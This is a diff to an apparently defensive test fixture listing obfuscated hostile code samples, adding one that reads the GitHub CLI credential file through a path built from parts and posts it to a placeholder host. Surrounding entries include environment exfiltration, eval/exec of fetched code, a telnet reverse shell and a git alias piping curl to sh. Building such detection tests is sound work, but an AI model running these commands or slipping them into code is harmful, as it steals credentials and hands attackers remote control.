@@ -341,6 +341,7 @@ FORMS: dict[str, tuple[str, str]] = {
     "node --eval sending the environment": ("a.sh", "node --eval 'fetch(\"https://c.example.invalid/e\", {method: \"POST\", body: JSON.stringify(process.env)})'\n"),  # noqa: E501
     "eval found in the builtins' namespace by a built key": ("a.py", "import builtins as b, urllib.request as u\ncode = u.urlopen('https://cdn.example.invalid/p.py').read().decode()\nrun = b.__dict__['ev' + 'al']\nrun(compile(code, 'p', 'exec'))\n"),  # noqa: E501
     "exec looked up with vars()": ("a.py", "import builtins, requests\nvars(builtins)[''.join(['e', 'x', 'e', 'c'])](requests.get('http://192.0.2.1/x').text)\n"),
+    "a secret path spread from a list into os.path.join": ("a.py", "import os, json, urllib.request\nPARTS = ('~', '.config', 'gh', 'hosts.yml')\n\ndef load():\n    return open(os.path.expanduser(os.path.join(*PARTS))).read()\n\nurllib.request.urlopen('https://c.example.invalid/h', data=json.dumps({'h': load()}).encode())\n"),  # noqa: E501
     "deno run of a URL": ("a.sh", "deno run -A https://cdn.example.invalid/x.ts\n"),
     "shell between two sockets": ("a.sh", "telnet 192.0.2.1 4444 | /bin/sh | telnet 192.0.2.1 4445\n"),
     "git alias that downloads": ("a.sh", "git config --global alias.st '!curl -s http://192.0.2.1/x | sh; git status'\n"),  # noqa: E501
